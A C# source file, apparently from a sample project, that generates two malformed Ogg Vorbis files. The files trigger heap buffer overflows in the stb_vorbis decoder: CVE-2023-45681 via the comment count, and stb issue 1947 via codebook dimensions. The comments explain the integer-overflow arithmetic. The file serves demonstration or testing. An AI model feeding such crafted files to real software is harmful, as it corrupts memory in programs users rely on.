namespace NativeLibrarySample;

/// <summary>A file that makes stb_vorbis write where it must not. The function that it takes memory with, <c>setup_malloc</c>, wants the
/// size as an <c>int</c>, and the size is a product of numbers that stand in the file: of one that is too large the lower 32 bits are
/// left.</summary>
/// <param name="Name">The file's name.</param>
/// <param name="Story">The mistake that the file uses.</param>
/// <param name="Bytes">The file.</param>
internal sealed record BadFile(string Name, string Story, byte[] Bytes)
{
    internal static BadFile[] All { get; } = [Comments(), Codebook()];

    /// <summary>CVE-2023-45681: the array of the file's comments, <c>comment_list</c>.</summary>
    private static BadFile Comments()
    {
        // So many pointers of 8 bytes take 2 * 2^32 + 8 bytes, and of 4 bytes, as in WebAssembly, 2^32 + 4. Of either the rest is asked
        // for, which setup_malloc rounds up to 8.
        const int Claimed = 0x4000_0001;
        const int Present = 10;

        var packet = new BitWriter();
        packet.Write([3, .. "vorbis"u8]);
        packet.Write(0, 32);                   // the length of the name of the program that has made the file
        packet.Write(Claimed, 32);
        for (var comment = 0; comment < Present; comment++)
        {
            packet.Write(0, 32);               // its length: an empty comment, to which a pointer is written beyond the 8 bytes
        }

        // Here the packet ends, and what is read behind it is a length of -1: an error, for which the library frees all that it has, and
        // so every one of the comments that there should be.
        return new BadFile(
            "comments.ogg",
            $"it says that it has {Claimed:N0} comments. The array for them has 8 bytes:\n"
                + $"{Present} pointers are written to it, and then all that should be there are freed (CVE-2023-45681)",
            [.. Page(0, Identification), .. Page(1, packet.ToArray())]);
    }

    /// <summary>The same mistake with the numbers of a codebook, <c>multiplicands</c> (issue 1947 of nothings/stb).</summary>
    private static BadFile Codebook()
    {
        // The product is 2^30 + 1. So many floats take 2^32 + 4 bytes, of which 4 are asked for, rounded up to 8.
        const int Entries = 19825;
        const int Dimensions = 54161;

        var packet = new BitWriter();
        packet.Write([5, .. "vorbis"u8]);
        packet.Write(0, 8);                    // one codebook
        packet.Write(0x56_4342, 24);           // which begins with these bytes
        packet.Write(Dimensions, 16);
        packet.Write(Entries, 24);
        packet.Write(1, 1);                    // its code words are in the order of their lengths:
        packet.Write(15 - 1, 5);               // those of 15 bits
        packet.Write(Entries, 15);             // are all that there are
        packet.Write(1, 4);                    // it has vectors of numbers, of the first kind:
        packet.Write(0, 32);                   // a smallest number, 0
        packet.Write(0x6280_0001, 32);         // and a factor, 1, as Vorbis writes floats,
        packet.Write(16 - 1, 4);               // for numbers of 16 bits,
        packet.Write(0, 1);                    // each of which stands for itself
        packet.Write(0x4141, 16);              // The library takes two. It writes them as floats, 32 of them before it sees that the
        packet.Write(0x4141, 16);              // codebook is wrong: 128 bytes into a block of 8.

        byte[] comments = [3, .. "vorbis"u8, 0, 0, 0, 0, 0, 0, 0, 0, 1];
        return new BadFile(
            "codebook.ogg",
            $"its codebook has {Entries:N0} entries of {Dimensions:N0} numbers. The array for them has 8 bytes:\n"
                + "128 are written to it, before the library says that something is wrong (issue 1947 of nothings/stb)",
            [.. Page(0, Identification), .. Page(1, comments, packet.ToArray())]);
    }

    /// <summary>The first packet of each file: one channel, 44,100 samples in a second, blocks of 256 and of 2,048 samples.</summary>
    private static byte[] Identification =>
        [1, .. "vorbis"u8, 0, 0, 0, 0, 1, 0x44, 0xAC, 0, 0, .. new byte[12], 0xB8, 1];

    /// <summary>A page of an Ogg file with whole packets. Its checksum is left out, since stb_vorbis does not look at it.</summary>
    private static byte[] Page(byte number, params byte[][] packets)
    {
        // A packet is cut into pieces of 255 bytes, and the piece that is shorter is its last one.
        List<byte> pieces = [];
        foreach (var packet in packets)
        {
            pieces.AddRange([.. Enumerable.Repeat((byte)255, packet.Length / 255), (byte)(packet.Length % 255)]);
        }

        var isFirst = (byte)(number == 0 ? 2 : 0);
        byte[] head = [.. "OggS"u8, 0, isFirst, .. new byte[8], 1, 0, 0, 0, number, 0, 0, 0, .. new byte[4], (byte)pieces.Count];
        return [.. head, .. pieces, .. packets.SelectMany(packet => packet)];
    }

    /// <summary>Writes numbers of any width, the lowest bit first, as Vorbis has them.</summary>
    private sealed class BitWriter
    {
        private readonly List<byte> _bytes = [];
        private int _bitsInLast = 8;

        internal void Write(uint value, int bits)
        {
            for (var bit = 0; bit < bits; bit++)
            {
                if (_bitsInLast == 8)
                {
                    _bytes.Add(0);
                    _bitsInLast = 0;
                }

                _bytes[^1] |= (byte)(((value >> bit) & 1) << _bitsInLast++);
            }
        }

        internal void Write(ReadOnlySpan<byte> bytes)
        {
            foreach (var value in bytes)
            {
                Write(value, 8);
            }
        }

        internal byte[] ToArray() => [.. _bytes];
    }
}
